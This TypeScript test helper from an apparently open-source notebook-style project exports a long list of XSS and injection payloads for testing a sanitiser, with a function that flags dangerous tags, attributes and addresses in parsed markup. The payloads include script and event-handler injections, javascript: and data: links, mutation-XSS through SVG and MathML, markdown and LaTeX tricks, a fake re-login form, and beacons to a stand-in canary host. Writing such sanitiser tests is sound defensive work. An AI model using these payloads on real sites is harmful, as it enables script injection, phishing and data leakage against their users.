// Copyright (c) Atrium contributors.
// Distributed under the terms of the Modified BSD License.

import { JSDOM } from 'jsdom';

/** Said by a payload whose script ran, and by one that got a request out. */
const RUN = 'window.hit=1';
const OUT = 'https://canary.example/';

/** Ways in which strangers' text has become script, requests or overlays elsewhere. */
export const PAYLOADS: readonly string[] = [
  ...[
    `<script>${RUN}</script>`,
    `<SCRIPT SRC=${OUT}x.js></SCRIPT>`,
    `<script>${RUN}`,
    `</script><script>${RUN}</script>`,
    `</title><script>${RUN}</script>`,
    `</textarea><script>${RUN}</script>`,
    `</style><script>${RUN}</script>`,
    `--><script>${RUN}</script>`,
    `]]><script>${RUN}</script>`,
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `<script\u0000>${RUN}</script>`,
    `<script/x>${RUN}</script>`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg><script href="data:,${RUN}"/></svg>`,
    `<math><mtext><script>${RUN}</script></mtext></math>`
  ],
  ...[
    `<img src=x onerror=${RUN}>`,
    `<img src="x" onerror="${RUN}">`,
    `<img src=x onerror='${RUN}'>`,
    `<img/src=x/onerror=${RUN}>`,
    `<img src=x\nonerror\n=\n${RUN}>`,
    `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
    `<img src=x:x onerror=${RUN}//>`,
    `<image src=x onerror=${RUN}>`,
    `<img srcset="${OUT}a.png 1x" src=x>`,
    `<img src="${OUT}pixel.png">`,
    `<img src="//canary.example/pixel.png">`,
    `<img lowsrc="${OUT}" dynsrc="${OUT}">`,
    `"><img src=x onerror=${RUN}>`,
    `'><img src=x onerror=${RUN}>`,
    `" onerror="${RUN}" x="`,
    `' onmouseover='${RUN}' x='`,
    `\` onmouseover=\`${RUN}`,
    `" autofocus onfocus="${RUN}`,
    `" style="position:fixed;inset:0`
  ],
  ...[
    `<svg onload=${RUN}>`,
    `<svg><animate onbegin=${RUN} attributeName=x></svg>`,
    `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
    `<svg><set attributeName=href to=javascript:${RUN}></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${RUN}'/></svg>#x"/></svg>`,
    `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></foreignObject></svg>`,
    `<svg><style><img src=x onerror=${RUN}></style></svg>`,
    `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
    `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
    `<math href="javascript:${RUN}">x</math>`,
    `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
    `<template><img src=x onerror=${RUN}></template>`,
    `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
    `<listing>&lt;img onerror=${RUN} src=x&gt;</listing>`,
    `<plaintext><img src=x onerror=${RUN}>`,
    `<select><style></select><script>${RUN}</script>`,
    `<table><td><form><input name=attributes></form><script>${RUN}</script>`
  ],
  ...[
    `<iframe src="javascript:${RUN}"></iframe>`,
    `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
    `<iframe src="${OUT}"></iframe>`,
    `<object data="javascript:${RUN}"></object>`,
    `<object data="${OUT}x.swf" type="application/x-shockwave-flash"></object>`,
    `<embed src="javascript:${RUN}">`,
    `<applet code=x></applet>`,
    `<frameset onload=${RUN}>`,
    `<portal src="${OUT}">`,
    `<fencedframe></fencedframe>`,
    `<video src="${OUT}v.mp4" onloadstart=${RUN}></video>`,
    `<video><source onerror=${RUN}></video>`,
    `<audio src=x onerror=${RUN}>`,
    `<body onload=${RUN}>`,
    `<html onmouseover=${RUN}>`,
    `<details open ontoggle=${RUN}>x</details>`,
    `<marquee onstart=${RUN}>x</marquee>`,
    `<input autofocus onfocus=${RUN}>`,
    `<select autofocus onfocus=${RUN}></select>`,
    `<textarea autofocus onfocus=${RUN}></textarea>`,
    `<button popovertarget=x>x</button><div popover id=x onbeforetoggle=${RUN}>x</div>`,
    `<div contenteditable autofocus onfocus=${RUN}>x</div>`,
    `<x onclick=${RUN} tabindex=1 id=x>x</x>#x`,
    `<dialog open onclose=${RUN}>x</dialog>`,
    `<keygen autofocus onfocus=${RUN}>`
  ],
  ...[
    `<a href="javascript:${RUN}">x</a>`,
    `<a href="JaVaScRiPt:${RUN}">x</a>`,
    `<a href=" javascript:${RUN}">x</a>`,
    `<a href="java\tscript:${RUN}">x</a>`,
    `<a href="java&#10;script:${RUN}">x</a>`,
    `<a href="&#106;avascript:${RUN}">x</a>`,
    `<a href="javascript&colon;${RUN}">x</a>`,
    `<a href="\u0001javascript:${RUN}">x</a>`,
    `<a href="vbscript:msgbox(1)">x</a>`,
    `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
    `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
    `<a href="blob:https://hub.example/1">x</a>`,
    `<a href="file:///etc/passwd">x</a>`,
    `<a href="/hub/logout">x</a>`,
    `<a href="?file=../../secret">x</a>`,
    `<a href="${OUT}" target="_top" ping="${OUT}ping">x</a>`,
    `<area href="javascript:${RUN}">`,
    `<base href="${OUT}">`,
    `<link rel=stylesheet href="${OUT}x.css">`,
    `<link rel=prefetch href="${OUT}">`,
    `<meta http-equiv=refresh content="0;url=${OUT}">`,
    `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
    `<meta name=referrer content=unsafe-url>`
  ],
  ...[
    `<style>*{background:url(${OUT})}</style>`,
    `<style>@import '${OUT}x.css';</style>`,
    `<div style="background:url(${OUT})">x</div>`,
    `<div style="position:fixed;inset:0;z-index:9999">x</div>`,
    `<div style="width:expression(${RUN})">x</div>`,
    `<p class="jp-Dialog lm-Widget notice primary">x</p>`,
    `<p id="main" name="confirm">x</p>`,
    `<form action="${OUT}"><button>Log in again</button></form>`,
    `<form id=f></form><button form=f formaction="javascript:${RUN}">x</button>`,
    `<input type=hidden name=confirm value=x>`,
    `<button data-commandlinker-command="terminal:create-new" data-commandlinker-args="{}">x</button>`,
    `<a data-jp-path=x data-commandlinker-command="filebrowser:delete">x</a>`,
    `<script type="module">import('${OUT}')</script>`,
    `<script type="text/x-mathjax-config">${RUN}</script>`,
    `<bdo dir=rtl>x</bdo>\u202e\u2066gnp.exe`
  ],
  ...[
    `[x](javascript:${RUN})`,
    `[x](java\nscript:${RUN})`,
    `[x](&#106;avascript:${RUN})`,
    `[x](data:text/html;base64,PHNjcmlwdD4=)`,
    `[x](<javascript:${RUN}>)`,
    `[x]: javascript:${RUN}\n\n[x]`,
    `<javascript:${RUN}>`,
    `![x](javascript:${RUN})`,
    `![x](${OUT}pixel.png)`,
    `![x"onerror="${RUN}](x.png)`,
    `![x](data:image/svg+xml,<svg onload=${RUN}>)`,
    `![x](data:text/html;base64,PHNjcmlwdD4=)`,
    `![x](attachment:"onerror="${RUN})`,
    `[x](//canary.example "onmouseover=${RUN}")`,
    `\`\`\`"onclick=${RUN}\nx\n\`\`\``,
    `\`\`\`python"><script>${RUN}</script>\nx\n\`\`\``,
    `$\\href{javascript:${RUN}}{x}$`,
    `$\\htmlData{x="><img src=x onerror=${RUN}>}{x}$`,
    `$\\includegraphics{${OUT}x.png}$`,
    `$\\text{<img src=x onerror=${RUN}>}$`,
    `$$\\style{position:fixed}{x}$$`,
    `$\\class{primary}{x}$ $\\cssId{main}{x}$`,
    `| <img src=x onerror=${RUN}> | a |\n|---|---|\n| <svg onload=${RUN}> | b |`
  ],
  ...[
    `\u001b]8;;javascript:${RUN}\u0007x\u001b]8;;\u0007`,
    `\u001b[31m<img src=x onerror=${RUN}>\u001b[0m`,
    `\u001b[38;5;"><script>${RUN}</script>m`,
    '{{constructor.constructor("window.hit=1")()}}',
    '${window.hit=1}',
    '<%= window.hit=1 %>'
  ]
];

const TAGS = new Set(
  (
    'a abbr article aside b bdi blockquote body br button caption cite code col colgroup dd del details div dl dt em ' +
    'fieldset figure footer form h1 h2 h3 h4 h5 h6 head header hr html i img input ins kbd label legend li main mark meta nav ol ' +
    'option p path pre q s samp section select small span strong style sub summary sup svg table tbody td textarea tfoot th ' +
    'thead time title tr u ul var'
  ).split(' ')
);
const MATH_TAG =
  /^(?:m(?:ath|row|i|n|o|s|text|space|style|error|padded|phantom|enclose|frac|sqrt|root|sub|sup|subsup|under|over|underover|table|tr|td|labeledtr)|semantics|annotation)$/;
/** Attributes that load, run, name or place things. */
const ATTRIBUTE =
  /^(?:on|style$|lowsrc$|dynsrc$|srcset$|srcdoc$|background$|ping$|target$|data-|xlink|is$|formaction$|popover|nonce$)/;

const CONTROLS = new Set(['style', 'meta', 'form', 'input', 'button', 'textarea', 'select', 'svg']);
const PICTURE = /^data:image\/(?:png|jpeg|gif|webp|svg\+xml);base64,[\w+/=]+$|^atrium-[0-9a-f]+:\d+$/;
/** A page of a work. */
const PAGE = 'https://hub-a.example/services/atrium/works/01935b0e-7c1a-7d3e-9c55-0f6a2b1c4d5e';

const parser = new new JSDOM('').window.DOMParser();

/**
 * Finds what strangers' text must never become, in markup as a browser reads it.
 *
 * A page has forms and addresses of its own: compare what is found with the same page of harmless text.
 *
 * @returns one entry a find
 */
export function dangersIn(markup: string): string[] {
  const document = parser.parseFromString(markup, 'text/html');
  return [...document.querySelectorAll('*')].flatMap(element => {
    const tag = element.localName;
    const isKnown = TAGS.has(tag) || (MATH_TAG.test(tag) && element.namespaceURI?.endsWith('MathML'));
    return [...(isKnown ? [] : [`<${tag}>`]), ...dangersOf(element)];
  });
}

function dangersOf(element: Element): string[] {
  const tag = element.localName;
  const found = CONTROLS.has(tag) ? [`<${tag}>`] : [];
  if (/(?:^|\s)(?:jp-|lm-|p-|act|button|notice)/.test(element.className)) {
    found.push(`${tag}.${element.className}`);
  }
  for (const { name, value } of element.attributes) {
    if (ATTRIBUTE.test(name) || name === 'id' || name === 'name') {
      found.push(`${tag}[${name}]`);
    }
    if ((name === 'href' || name === 'action') && !isHarmless(value)) {
      found.push(`${tag}[${name}=${value}]`);
    }
    if (name === 'src' && !PICTURE.test(value)) {
      found.push(`${tag}[src=${value}]`);
    }
  }
  return found;
}

/** The web, or a page of ours. */
function isHarmless(address: string): boolean {
  const url = URL.parse(address, PAGE);
  const isOurs = url?.host === 'hub-a.example' && url.pathname.startsWith('/services/atrium/');
  return isOurs || /^https?:\/\//.test(address);
}
